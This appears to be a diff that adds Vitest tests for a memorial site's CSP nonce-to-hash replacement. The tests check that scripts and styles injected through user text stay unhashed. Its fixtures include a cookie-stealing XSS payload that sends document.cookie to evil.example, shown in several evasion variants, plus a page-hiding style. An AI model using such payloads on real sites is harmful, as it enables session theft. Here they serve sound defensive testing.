@@ -1,0 +1,107 @@
+import { createHash } from 'node:crypto';
+import { Writable } from 'node:stream';
+
+import { renderToPipeableStream } from 'react-dom/server';
+import { expect, test } from 'vitest';
+
+import { DEFERRED_HYDRATION_SCRIPT } from '../../../app/hydration/deferred-hydration-script.ts';
+import { DeferredScripts } from '../../../app/hydration/deferred-scripts.tsx';
+import { TextSection } from '../../../app/memorials/page/sections/text-section.tsx';
+import { ThemeStyle } from '../../../app/themes/theme-style.tsx';
+import { CspNonce } from '../../../app/ui/csp-nonce.ts';
+import { replaceNonces } from './csp-hashes.server.ts';
+
+const NONCE = '5f3c1d9e-secret';
+const CSS = '.memorial{color:red}';
+const STEAL = 'fetch("https://evil.example/"+document.cookie)';
+const HIDE = 'body{display:none}';
+
+function hashOf(text: string): string {
+  return `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
+}
+
+function replaceNoncesOf(text: string, nonce: string | undefined) {
+  const { page, hashes } = replaceNonces(Buffer.from(text), nonce);
+  return { html: page.toString(), hashes };
+}
+
+async function pageWith(html: string): Promise<string> {
+  const chunks: Buffer[] = [];
+  const theme = { themeId: 'plain', css: CSS, address: '/themes/plain.css', fonts: [] };
+  return new Promise((resolve, reject) => {
+    const sink = new Writable({
+      write(chunk: Buffer, _encoding, done) {
+        chunks.push(chunk);
+        done();
+      },
+      final(done) {
+        resolve(Buffer.concat(chunks).toString());
+        done();
+      },
+    });
+    const { pipe } = renderToPipeableStream(
+      <CspNonce value={NONCE}>
+        <html lang="en">
+          <head>
+            <ThemeStyle style={theme} />
+          </head>
+          <body>
+            <TextSection
+              section={{ type: 'textSection', key: 'a', title: 'A life', html, isLong: false }}
+            />
+            <DeferredScripts />
+          </body>
+        </html>
+      </CspNonce>,
+      { nonce: { style: NONCE }, onAllReady: () => pipe(sink), onError: reject },
+    );
+  });
+}
+
+test("the product's own script and style are hashed, and their nonces are removed", async () => {
+  const { html, hashes } = replaceNoncesOf(await pageWith('<p>Ada</p>'), NONCE);
+  expect(hashes).toEqual({ scripts: [hashOf(DEFERRED_HYDRATION_SCRIPT)], styles: [hashOf(CSS)] });
+  expect(html).not.toContain(NONCE);
+  expect(html).not.toContain('nonce');
+  expect(html).toContain(`<script>${DEFERRED_HYDRATION_SCRIPT}</script>`);
+});
+
+test.each([
+  ['a script', `<script>${STEAL}</script>`],
+  ['a script with the nonce of another page', `<script nonce="5f3c1d9e">${STEAL}</script>`],
+  ['a script with an empty nonce', `<script nonce="">${STEAL}</script>`],
+  ['a module', `<script type="module">${STEAL}</script>`],
+  ['a script in capitals', `<SCRIPT>${STEAL}</SCRIPT>`],
+  ['a script inside a drawing', `<svg><script>${STEAL}</script></svg>`],
+  ['a style', `<style>${HIDE}</style>`],
+])('%s injected by a text is not hashed', async (_, hostile) => {
+  const rendered = await pageWith(hostile);
+  expect(rendered).toContain(hostile);
+  const { html, hashes } = replaceNoncesOf(rendered, NONCE);
+  expect(html).toContain(hostile);
+  expect(hashes).toEqual({ scripts: [hashOf(DEFERRED_HYDRATION_SCRIPT)], styles: [hashOf(CSS)] });
+});
+
+test.each([
+  ['an attribute without an end', '<script data-rest="'],
+  ['a tag without an end', '<script '],
+  ['a style without an end', '<style data-rest='],
+])('%s cannot take a nonce', (_, open) => {
+  const own = `<script nonce="${NONCE}">${DEFERRED_HYDRATION_SCRIPT}</script>`;
+  const { hashes } = replaceNoncesOf(`${open}${own}<p>${STEAL}</p></script></style>`, NONCE);
+  expect(hashes).toEqual({ scripts: [hashOf(DEFERRED_HYDRATION_SCRIPT)], styles: [] });
+});
+
+test('a page that was rendered without a nonce has no hashes', () => {
+  const html = `<script>${STEAL}</script><script nonce="">${STEAL}</script>`;
+  expect(replaceNoncesOf(html, undefined)).toEqual({ html, hashes: { scripts: [], styles: [] } });
+});
+
+test('text in any writing system stays unchanged, and is hashed as UTF-8', () => {
+  const script = 'say("Ünïcödé 家族 🕯")';
+  const text = `<p>Léa — 田中 🌿</p><script nonce="${NONCE}">${script}</script>`;
+  expect(replaceNoncesOf(text, NONCE)).toEqual({
+    html: `<p>Léa — 田中 🌿</p><script>${script}</script>`,
+    hashes: { scripts: [hashOf(script)], styles: [] },
+  });
+});
